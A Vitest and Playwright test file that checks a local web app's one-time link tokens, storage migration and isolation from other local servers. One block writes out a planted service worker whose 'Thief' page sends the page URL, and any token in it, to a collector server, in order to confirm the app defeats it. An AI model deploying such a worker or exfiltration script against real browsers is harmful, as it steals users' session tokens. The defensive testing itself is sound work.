import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { browserMissing, launchBrowser, rendererFolder, watchedPage } from '../../../support/browser.ts';
import { serveFake } from '../../../support/fake-application/host.ts';
import { buildLoadedState, buildModelFile } from '../../../support/fixtures/model.ts';

const portOf = (server: Server): number => (server.address() as AddressInfo).port;

async function start(port = 0, ownName = false) {
	const host = await serveFake(rendererFolder, undefined, port, ownName);
	host.fake.data.models = [buildModelFile(1)];
	host.fake.data.states.set(1, buildLoadedState(1));
	onTestFinished(() => host.close());
	return host;
}

describe.skipIf(browserMissing() !== null)('the browser host in a real browser', () => {
	let browser: Browser;
	beforeAll(async () => {
		browser = await launchBrowser();
	});
	afterAll(() => browser.close());

	async function openPage() {
		const watched = await watchedPage(browser);
		onTestFinished(() => watched.page.context().close());
		return watched;
	}

	const composerOf = (page: Page) => page.getByRole('textbox', { name: 'Message' });

	test('a link opens the app for its tab, which survives a reload; nobody else can use it', async () => {
		const host = await start();
		const { url } = host.newLink();
		const { page, problems } = await openPage();
		await page.goto(url);
		await composerOf(page).waitFor();
		expect(page.url()).not.toContain('token');
		await page.reload();
		await composerOf(page).waitFor();
		expect(problems).toEqual([]);

		const other = await openPage();
		await other.page.goto(url);
		await other.page.getByText('This link was already used').waitFor();
		await other.page.getByText('Open the link it prints').waitFor();
		expect(await composerOf(other.page).count()).toBe(0);
	});

	test('a second tab beside an open one needs no link', async () => {
		const host = await start();
		const { page } = await openPage();
		const { url } = host.newLink();
		await page.goto(url);
		await composerOf(page).waitFor();
		const second = await page.context().newPage();
		await second.goto(new URL(url).origin);
		await composerOf(second).waitFor();
		// The same link once more: the tab beside it vouches for it.
		const third = await page.context().newPage();
		await third.goto(url);
		await composerOf(third).waitFor();
		await page.close();
		await second.reload();
		await composerOf(second).waitFor();
	});

	test('what an earlier version kept in the browser moves to the application, once', async () => {
		const host = await start();
		const { page } = await openPage();
		await page.addInitScript(() => {
			if (sessionStorage.getItem('planted') !== null) return;
			sessionStorage.setItem('planted', 'yes');
			localStorage.setItem('assay.dataset.added-to', '7');
			localStorage.setItem('assay-comparison-columns', '{"kld":false}');
			sessionStorage.setItem('assay.prompt.drafts', '{"3":{"system":"","template":"Rank","example":""}}');
			sessionStorage.setItem('assay.drafts', '{"new":"half a thought"}');
			localStorage.setItem('of-another-program', 'x');
		});
		await page.goto(host.newLink().url);
		await composerOf(page).waitFor();
		await expect.poll(() => host.fake.data.settings.lastDatasetId).toBe(7);
		expect(host.fake.data.settings.comparisonColumns).toEqual({ kld: false });
		await expect
			.poll(() => host.fake.data.prompts.drafts.get(3))
			.toEqual({ system: '', template: 'Rank', example: '' });
		expect(await composerOf(page).inputValue()).toBe('half a thought');
		await expect.poll(() => page.evaluate(() => Object.keys(localStorage))).toEqual([]);
	});

	describe('after another program planted a service worker on the port', () => {
		/** What the planted program received from the browser since it ended. */
		const taken: string[] = [];

		async function plant(page: Page): Promise<number> {
			taken.length = 0;
			const collector = createServer((request, response) => {
				taken.push(request.url ?? '');
				response.setHeader('access-control-allow-origin', '*').end();
			}).listen(0, '127.0.0.1');
			onTestFinished(() => void collector.close());
			await once(collector, 'listening');
			const collectorPort = portOf(collector);
			const thief = `<title>Thief</title><script>fetch('http://127.0.0.1:${collectorPort}/' + encodeURIComponent(location.href))</script>`;
			const worker = `self.addEventListener('install', () => self.skipWaiting());
				self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
				self.addEventListener('fetch', (event) => {
					if (event.request.mode === 'navigate')
						event.respondWith(new Response(${JSON.stringify(thief)}, { headers: { 'content-type': 'text/html' } }));
				});`;
			const program = createServer((request, response) => {
				const [type, body] =
					request.url === '/sw.js' ? ['text/javascript', worker] : ['text/html', '<title>Planting</title>'];
				response.writeHead(200, { 'content-type': type, 'cache-control': 'max-age=86400' }).end(body);
			}).listen(0, '127.0.0.1');
			await once(program, 'listening');
			const port = portOf(program);
			for (const name of ['127.0.0.1', 'localhost']) {
				await page.goto(`http://${name}:${port}/`);
				await page.evaluate(async () => {
					await navigator.serviceWorker.register('/sw.js');
					await navigator.serviceWorker.ready;
				});
			}
			await page.goto(`http://127.0.0.1:${port}/`);
			expect(await page.title()).toBe('Thief');
			await expect.poll(() => taken.length).toBe(1);
			taken.length = 0;
			program.closeAllConnections();
			await new Promise((resolve) => program.close(resolve));
			return port;
		}

		test('the link of a start captures nothing for it, and it is gone once its address is visited', async () => {
			const { page } = await openPage();
			const port = await plant(page);
			const host = await start(port, true);
			await page.goto(host.newLink().url);
			await composerOf(page).waitFor();
			await page.reload();
			await composerOf(page).waitFor();
			expect(taken).toEqual([]);

			for (const name of ['127.0.0.1', 'localhost']) {
				await expect
					.poll(
						async () => {
							await page.goto(`http://${name}:${port}/`).catch(() => {});
							// Chromium looks for a new worker a second after the page has loaded.
							await page.waitForTimeout(2_500);
							return page.title().catch(() => '');
						},
						{ timeout: 60_000 },
					)
					.toBe('Assay');
				const left = () => page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
				await expect.poll(left).toBe(0);
			}
			expect(taken.filter((address) => address.includes('token'))).toEqual([]);
		}, 180_000);

		test('a link at 127.0.0.1 removes databases and caches that it left there', async () => {
			const { page } = await openPage();
			const program = createServer((_request, response) => {
				response.setHeader('content-type', 'text/html').end('<title>Planting</title>');
			}).listen(0, '127.0.0.1');
			await once(program, 'listening');
			const port = portOf(program);
			await page.goto(`http://127.0.0.1:${port}/`);
			await page.evaluate(async () => {
				localStorage.setItem('of-another-program', 'x');
				await caches.open('planted');
			});
			program.closeAllConnections();
			await new Promise((resolve) => program.close(resolve));
			const host = await start(port);
			await page.goto(host.newLink().url);
			await composerOf(page).waitFor();
			expect(await page.evaluate(async () => [Object.keys(localStorage), await caches.keys()])).toEqual([[], []]);
		});
	});

	test('a page of another local server reaches neither the calls nor the socket, and cannot frame the app', async () => {
		const host = await start();
		const server = createServer((_request, response) => {
			response.setHeader('content-type', 'text/html').end('<!doctype html><title>Elsewhere</title>');
		}).listen(0, '127.0.0.1');
		onTestFinished(() => void server.close());
		await once(server, 'listening');
		const address = server.address();
		const { page } = await openPage();
		await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/`);
		const { token } = host;
		const outcome = await page.evaluate(
			async ({ origin, token }) => {
				const socket = new WebSocket(`${origin.replace('http', 'ws')}/socket`);
				const opened = new Promise((resolve) => {
					socket.onopen = () => resolve('opened');
					socket.onerror = () => resolve('refused');
				});
				const called = (init: RequestInit) => fetch(`${origin}/rpc/system/status`, { method: 'POST', ...init });
				const call = await called({ headers: { authorization: `Bearer ${token}` } }).catch(() => 'refused');
				const simple = await called({ mode: 'no-cors' }).then(
					({ type }) => type,
					() => 'refused',
				);
				const frame = document.createElement('iframe');
				frame.src = `${origin}/#token=${token}`;
				document.body.append(frame);
				await new Promise((resolve) => {
					frame.onload = resolve;
				});
				return { socket: await opened, call, simple };
			},
			{ origin: new URL(host.url).origin, token },
		);
		expect(outcome).toMatchObject({ socket: 'refused', call: 'refused' });
		expect(['opaque', 'refused']).toContain(outcome.simple);
		const framed = page.frames()[1];
		expect(await framed?.content()).not.toContain('Assay');
		expect(framed?.url()).toMatch(/^chrome-error:/);
	});
});
